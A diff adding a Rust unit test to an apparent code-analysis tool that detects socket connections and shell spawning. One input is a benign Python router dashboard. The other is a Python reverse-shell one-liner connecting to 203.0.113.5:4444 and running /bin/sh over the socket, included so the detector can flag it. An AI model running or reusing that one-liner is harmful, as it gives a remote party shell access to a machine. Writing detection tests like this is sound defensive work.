@@ -103,6 +103,24 @@ fn sockets_and_the_shells_wired_to_them() {
     assert!(!f.spawns_shell, "a connection alone is not a shell");
 }
 
+/// `mischa-thisness/M-Gemini` (CC0), a real Gemini CLI session: a dashboard
+/// that asks a router's API with `requests` and tails its log over ssh. An
+/// ssh option named `ConnectTimeout` opens no socket of the program's own.
+#[test]
+fn an_ssh_option_is_no_socket_call() {
+    let f = facts(
+        Lang::Python,
+        "import requests\nimport subprocess\nr = requests.get(f\"{self.base_url}/blocking/status\", timeout=2)\ncmd = [\"ssh\", \"-o\", \"ConnectTimeout=5\", f\"root@{self.router_ip}\", \"logread -f\"]\nprocess = subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True)\nrouter_ip=\"192.168.8.1\"",
+    );
+    assert!(f.sockets.is_empty(), "{:?}", f.sockets);
+    // the same call spelled as a socket method still is one
+    let f = facts(
+        Lang::Python,
+        "import socket,subprocess;s=socket.socket();s.Connect(('203.0.113.5',4444));subprocess.Popen(['/bin/sh'],stdin=s)",
+    );
+    assert_eq!(f.sockets[0].0, "203.0.113.5");
+}
+
 #[test]
 fn writes_and_their_content() {
     let f = facts(
